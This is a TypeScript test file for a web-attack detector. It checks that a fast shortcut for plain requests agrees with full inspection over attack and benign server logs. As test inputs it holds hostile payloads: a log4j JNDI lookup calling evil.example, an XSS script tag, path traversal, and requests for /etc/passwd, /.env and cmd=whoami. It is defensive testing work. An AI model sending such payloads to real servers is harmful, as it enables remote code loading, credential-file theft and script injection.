/**
 * The engine's shortcut for plain requests (src/detect/webfields.ts) must agree with the full
 * web-attack inspection on every request of the development corpus, attacks and benign alike.
 */
import test from 'ava';
import { existsSync, readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { inspectRequest } from '../../src/detect/web/index.js';
import { SENSITIVE_FILES } from '../../src/detect/web/path.js';
import { plainTarget, SENSITIVE_LOWER_ASCII, webFields } from '../../src/detect/webfields.js';
import { parsers } from '../../src/parsers/loglines.js';

const DIR = '/work/shared/corpus/web-attacks';

test('the plain-request shortcut gives the same categories as the full inspection on the whole corpus', (t) => {
  if (!existsSync(`${DIR}/attacks.log`)) {
    if (process.env.CI) t.fail(`${DIR} is missing`);
    else t.pass(`skipped: ${DIR} is missing`);
    return;
  }
  const text = readFileSync(`${DIR}/attacks.log`, 'utf8') + '\n' + gunzipSync(readFileSync(`${DIR}/benign.log.gz`)).toString('utf8');
  const diffs: string[] = [];
  let plain = 0;
  let n = 0;
  for (const l of text.split('\n')) {
    const p = parsers.nginx(l);
    if (!p || p.status === undefined) continue;
    n++;
    const req = { method: p.method, target: p.path ?? '', userAgent: p.userAgent, referer: p.referer };
    if (plainTarget(req.target)) plain++;
    const a = [...webFields(req).categories].sort().join();
    const b = [...new Set(inspectRequest(req).findings.map((x) => x.category))].sort().join();
    if (a !== b) diffs.push(`${a} vs ${b}: ${l.slice(0, 160)}`);
  }
  t.true(n > 22_000);
  t.true(plain > 1000, `only ${plain} plain requests: the shortcut never applies`);
  t.deepEqual(diffs.slice(0, 10), []);
});

test('plain targets: what may and may not take the shortcut', (t) => {
  for (const s of ['/', '/index.html', '/zwgk/2026/t1_2.html?page=3', '/a/b-c_d/?id=42&p=1']) t.true(plainTarget(s), s);
  for (const s of ['/.env', '/WEB-INF/web.xml', '/a.php?cmd=whoami', '/etc/passwd', '/a/../b', '/a%2e%2e/b', '/x.php?id=1%27', '/a?q=<s>', '/a?b'])
    t.false(plainTarget(s), s);
});

test('a plain path does not hide an attack in the referer (log4j lookup, markup)', (t) => {
  const ua = 'Mozilla/5.0';
  t.deepEqual(webFields({ method: 'GET', target: '/index.html', userAgent: ua, referer: '${jndi:ldap://evil.example/a}' }).categories, ['code_injection']);
  t.deepEqual(webFields({ method: 'GET', target: '/index.html', userAgent: ua, referer: 'https://x.gov.cn/a?q=%3Cscript%3Ealert(1)%3C/script%3E' }).categories, ['xss']);
  t.deepEqual(webFields({ method: 'GET', target: '/index.html', userAgent: ua, referer: 'https://www.example.gov.cn/zwgk/2026/t1_2.html' }).categories, []);
});

test('plainTarget matches the sensitive names case-insensitively exactly as it did on the lower-cased target', (t) => {
  t.true(SENSITIVE_LOWER_ASCII, 'the shipped names are lower-case ASCII: the case-insensitive path is the one taken');
  const PLAIN = /^(?:\/[A-Za-z0-9_-]+)*\/(?:[A-Za-z0-9_-]+(?:\.[A-Za-z0-9]+)?)?(?:\?[A-Za-z0-9_]+=\d{0,12}(?:&[A-Za-z0-9_]+=\d{0,12})*)?$/;
  const SENSITIVE = new RegExp(SENSITIVE_FILES.map((f) => f.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')).join('|'));
  const before = (x: string) => x.length < 512 && PLAIN.test(x) && !SENSITIVE.test(x.toLowerCase());
  const targets: string[] = [];
  const cases = (w: string) => [w, w.toUpperCase(), w.replace(/^./, (c) => c.toUpperCase()), w.replace(/[a-z]/g, (c, i: number) => (i % 2 ? c.toUpperCase() : c))];
  for (const f of SENSITIVE_FILES) for (const w of cases(f)) targets.push(`/${w}`, `/a/${w}`, `/a/${w}/b.html`, `/a/x${w}y.html`, `/a/b.html?${w.replace(/[^A-Za-z0-9_]/g, '')}=1`);
  if (existsSync(`${DIR}/attacks.log`)) {
    const text = readFileSync(`${DIR}/attacks.log`, 'utf8') + '\n' + gunzipSync(readFileSync(`${DIR}/benign.log.gz`)).toString('utf8');
    for (const l of text.split('\n')) {
      const p = parsers.nginx(l);
      if (p?.path !== undefined) targets.push(p.path, p.path.toUpperCase());
    }
  } else if (process.env.CI) t.fail(`${DIR} is missing`);
  const diffs = targets.filter((x) => plainTarget(x) !== before(x));
  t.deepEqual(diffs.slice(0, 10), []);
  t.true(targets.filter(before).length > 100, 'plain targets are among them');
  t.true(targets.filter((x) => PLAIN.test(x) && !before(x)).length > 100, 'and plain-shaped ones a sensitive name keeps off the shortcut');
});
